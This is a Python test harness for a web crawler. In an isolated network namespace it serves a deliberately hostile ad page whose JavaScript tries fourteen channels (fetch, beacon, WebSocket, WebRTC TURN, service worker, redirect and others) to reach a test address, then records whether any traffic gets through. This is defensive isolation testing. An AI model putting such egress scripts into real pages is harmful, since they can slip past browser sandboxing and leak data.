"""A hostile rendered page inside a network namespace of its own (run by `unshare -rn`).

Run as `python -m tests.crawler.isolation_world ROOT [plain]`: it brings up the namespace's
loopback, gives it a non-loopback test address (TARGET, never a real network), listens there
on TCP and UDP, serves a synthetic platform on 127.0.0.1 whose ad page tries every channel a
page has to reach TARGET, crawls it with `render: true`, and writes what each side saw to
ROOT/result.json.
A probe of its own first shows the listener does receive what reaches it. With `plain`, the same
site is crawled without a browser, to list the sockets a plain crawl listens on.
"""

from __future__ import annotations

import json
import socket
import subprocess
import sys
import threading
from pathlib import Path

from aiohttp import web

from tests.crawler.sites import Instance, Site, listing_html, source_config

TARGET = "10.0.0.5"
TCP_PORTS = (80, 81, 443)
UDP_PORTS = (3478,)
CHANNELS = (
    "fetch", "xhr", "beacon", "iframe", "img", "eventsource", "worker", "serviceworker",
    "websocket", "popup", "webrtc", "redirect", "css", "prefetch",
)  # fmt: skip

HOSTILE_JS = """
const T = "%(target)s";
const waits = [];
const ran = (c) => fetch("/ran?c=" + c);
function attempt(name, fn) {
  waits.push(ran(name).then(() => fn()).catch(() => null));
}
attempt("fetch", () => fetch(`http://${T}/fetch`, {mode: "no-cors"}));
attempt("xhr", () => {
  const x = new XMLHttpRequest(); x.open("GET", `http://${T}/xhr`); x.send();
});
attempt("beacon", () => navigator.sendBeacon(`http://${T}/beacon`, "x"));
attempt("iframe", () => {
  const f = document.createElement("iframe"); f.src = `http://${T}/iframe`; document.body.append(f);
});
attempt("img", () => {
  const i = new Image(); i.src = `http://${T}/img.png`; document.body.append(i);
});
attempt("eventsource", () => { new EventSource(`http://${T}/events`); });
attempt("worker", () => { new Worker("/worker.js"); });
attempt("serviceworker", () => navigator.serviceWorker.register("/sw.js"));
attempt("websocket", () => { new WebSocket(`ws://${T}:81/ws`); });
attempt("popup", () => { window.open(`http://${T}/popup`, "_blank"); });
attempt("webrtc", async () => {
  const pc = new RTCPeerConnection({iceServers: [
    {urls: `stun:${T}:3478`},
    {urls: `turn:${T}:3478?transport=udp`, username: "u", credential: "p"},
    {urls: `turn:${T}:443?transport=tcp`, username: "u", credential: "p"},
  ]});
  pc.createDataChannel("x");
  await pc.setLocalDescription(await pc.createOffer());
  await new Promise((r) => setTimeout(r, 2000));
});
attempt("redirect", () => fetch("/omweg", {mode: "no-cors"}));
attempt("css", () => {
  const s = document.createElement("div");
  s.style.backgroundImage = `url(http://${T}/bg.png)`; document.body.append(s);
});
attempt("prefetch", () => {
  const l = document.createElement("link"); l.rel = "prefetch"; l.href = `http://${T}/prefetch`;
  document.head.append(l);
});
Promise.all(waits).then(() => setTimeout(() => {
  document.querySelector("span.telefoon").textContent = "klaar";
}, 1500));
"""
WORKER_JS = f'fetch("http://{TARGET}/worker").catch(() => null);'
SW_JS = f"""
self.addEventListener("install", (e) => e.waitUntil(fetch("http://{TARGET}/sw").catch(() => 0)));
fetch("/ran?c=serviceworker-ran");
"""


def hostile_ad_html() -> str:
    """The ad page: in scope (so it is fetched whole), and hostile once its button is pressed."""
    script = HOSTILE_JS % {"target": TARGET}
    return (
        "<!doctype html><html><head><meta charset='utf-8'><title>Advertentie</title></head><body>"
        "<h1 class='ad-title'>Nieuw in Houten</h1><span class='town'>Houten</span>"
        "<div class='ad-text'><p>Synthetische advertentie in Houten.</p></div>"
        "<button class='toon-nummer' onclick='start()'>toon nummer</button>"
        "<span class='telefoon'></span>"
        f"<img class='ad-photo' src='http://{TARGET}/photo.png'>"
        f"<script>function start() {{ {script} }}</script></body></html>"
    )


class Listener:
    """Records every TCP connection and UDP datagram that reaches TARGET."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        self.sockets: list[socket.socket] = []

    def start(self) -> None:
        for port in TCP_PORTS:
            server = socket.create_server((TARGET, port))
            self.sockets.append(server)
            threading.Thread(target=self._accept, args=(server, port), daemon=True).start()
        for port in UDP_PORTS:
            udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            udp.bind((TARGET, port))
            self.sockets.append(udp)
            threading.Thread(target=self._receive, args=(udp, port), daemon=True).start()

    def _accept(self, server: socket.socket, port: int) -> None:
        while True:
            connection, _ = server.accept()
            connection.settimeout(2)
            try:
                first = connection.recv(200).split(b"\r\n")[0].decode("latin-1")
            except OSError:
                first = ""
            self.seen.append(f"tcp:{port} {first}")
            connection.close()

    def _receive(self, udp: socket.socket, port: int) -> None:
        while True:
            data, _ = udp.recvfrom(2048)
            self.seen.append(f"udp:{port} {len(data)} bytes")


def probe(listener: Listener) -> list[str]:
    """Reach the listener directly once: what a leak would look like."""
    with socket.create_connection((TARGET, 80), timeout=5) as tcp:
        tcp.sendall(b"GET /probe HTTP/1.0\r\n\r\n")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.sendto(b"probe", (TARGET, 3478))
    for _ in range(50):
        if len(listener.seen) >= 2:
            break
        threading.Event().wait(0.05)
    seen = list(listener.seen)
    listener.seen.clear()
    return seen


def listening_sockets() -> list[str]:
    """Every listening TCP socket and bound UDP socket of the namespace (/proc/net)."""
    found = []
    for name, state in (("tcp", "0A"), ("tcp6", "0A"), ("udp", "07"), ("udp6", "07")):
        for line in Path(f"/proc/net/{name}").read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == state:
                found.append(f"{name} {fields[1]}")
    return found


def build_site(site: Site, snapshots: list[list[str]]) -> None:
    site.add("/robots.txt", "", status=404)
    site.add("/regio/houten", listing_html(["/advertentie/1"]))

    async def ad_page(request: web.Request) -> web.Response:
        snapshots.append(listening_sockets())  # the crawl is under way
        return web.Response(text=hostile_ad_html(), content_type="text/html")

    site.add_handler("/advertentie/1", ad_page)
    site.add("/worker.js", WORKER_JS, Content_Type="text/javascript")
    site.add("/sw.js", SW_JS, Content_Type="text/javascript")
    site.add("/omweg", "", status=302, Location=f"http://{TARGET}/redirected")

    async def ran(request: web.Request) -> web.Response:
        snapshots.append(listening_sockets())
        return web.Response(text="ok")

    site.add_handler("/ran", ran)


def main(root: Path, rendered: bool) -> None:
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    subprocess.run(["ip", "addr", "add", f"{TARGET}/32", "dev", "lo"], check=True)
    listener = Listener()
    listener.start()
    probed = probe(listener)
    before = listening_sockets()
    snapshots: list[list[str]] = []
    instance = Instance(root)
    site = Site()
    with site.serve() as url:
        build_site(site, snapshots)
        config = source_config("vijandig", url, render=rendered)
        if rendered:
            config["ad"]["fields"]["phone"] = "span.telefoon"
            reveal = {"click": "button.toon-nummer", "wait_for": "span.telefoon"}
            config["ad"]["phone_reveal"] = reveal
        instance.add_source(config)
        result = instance.crawl("vijandig", extra_env={"ADWATCH_LOG_LEVEL": "DEBUG"})
    threading.Event().wait(1.0)  # late packets (ICE retries) still count
    report = {
        "probe": probed,
        "leaked": listener.seen,
        "paths": site.paths(),
        "returncode": result.returncode,
        "stderr": result.stderr[-3000:],
        "stored": sorted(instance.stored_ids()),
        "site_port": int(url.rsplit(":", 1)[1]),
        "listening_before": before,
        "listening_during": snapshots,
        "log": instance.log_text()[-4000:],
    }
    (root / "result.json").write_text(json.dumps(report, indent=1), encoding="utf-8")


if __name__ == "__main__":
    main(Path(sys.argv[1]), rendered=sys.argv[2:] != ["plain"])
